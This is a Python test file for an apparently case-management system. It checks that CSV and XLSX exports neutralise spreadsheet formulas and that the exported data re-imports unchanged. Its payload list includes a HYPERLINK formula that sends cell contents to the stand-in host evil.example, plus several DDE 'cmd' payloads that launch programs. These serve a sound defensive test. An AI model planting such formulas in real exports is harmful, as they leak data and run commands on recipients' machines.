"""CSV and XLSX exports keep spreadsheet formulas from running; the import reads them back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from palermo.cases import open_case
from palermo.cases.exchange import export_cases, import_cases, read_rows
from palermo.cases.exchange.formulas import neutralise, restore
from palermo.cases.record.casefile import case_to_create
from palermo.cases.record.schemas import CaseCreate, EventData, PersonData
from palermo.store import Store
from palermo.store.models import Case
from tests.factories import make_agency_user

# The eleven payloads of the security test (issue 14), in every kind of text column.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    "+44 20 7946 0000",
    "-",
    "@admin",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _case(payload: str) -> CaseCreate:
    return CaseCreate(
        external_id=payload,
        person=PersonData(
            given_name=payload,
            family_name="Popa",
            aliases=[payload],
            phone=payload,
            address=payload,
        ),  # fmt: skip
        status_decided_by=payload,
        events=[EventData(type="Transit", city=payload, description=payload)],
    )


def test_neutralise_is_undone_by_restore() -> None:
    for text in [*PAYLOADS, "plain", "'quoted", "'=already", "''+two", ""]:
        assert restore(neutralise(text)) == text
        assert not neutralise(text).startswith(STARTS)


def test_every_formula_is_neutralised_in_csv_and_xlsx(store: Store, tmp_path: Path) -> None:
    actor = make_agency_user(store)
    with store.session() as s:
        for payload in PAYLOADS:
            open_case(s, data=_case(payload), actor=actor)
    with store.session() as s:
        # The services strip surrounding whitespace: "\t=1+1" is stored as "=1+1".
        stored = [c.victim.given_name for c in s.scalars(select(Case).order_by(Case.id))]
        text = export_cases(s, actor=actor, format="csv")
        book = export_cases(s, actor=actor, format="xlsx")
    assert isinstance(text, str) and isinstance(book, bytes)
    assert all(value.startswith(STARTS) for value in stored)
    rows = list(csv.DictReader(io.StringIO(text)))
    names = [row["prs_FirstName"] for row in rows]
    assert sum(1 for n, v in zip(names, stored, strict=True) if n == "'" + v) == 11
    cells = [c for row in rows for c in row.values()]
    assert [c for c in cells if c.startswith(STARTS)] == []
    path = tmp_path / "export.xlsx"
    path.write_bytes(book)
    sheet = load_workbook(path).worksheets[0]
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in values if c.data_type == "f"] == []
    texts = [c.value for c in values if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(STARTS)] == []
    assert sum(1 for v in stored if "'" + v in texts) == 11


def test_neutralised_export_imports_back_unchanged(store: Store, tmp_path: Path) -> None:
    source = make_agency_user(store, agency="NGO North")
    target = make_agency_user(store, agency="Police South")
    with store.session() as s:
        for payload in PAYLOADS:
            open_case(s, data=_case(payload), actor=source)
    for fmt in ("csv", "xlsx"):
        with store.session() as s:
            exported = export_cases(s, actor=source, format=fmt)
        path = tmp_path / f"export.{fmt}"
        if isinstance(exported, bytes):
            path.write_bytes(exported)
        else:
            path.write_text(exported, encoding="utf-8")
        with store.session() as s:
            report = import_cases(s, rows=read_rows(path), actor=target, atomic=True)
        with store.session() as s:
            got = [case_to_create(s.get(Case, i)) for i in report.case_ids]
            mine = s.scalars(select(Case).where(Case.agency_id == source.agency_id))
            want = [case_to_create(c) for c in mine]
        assert got == want
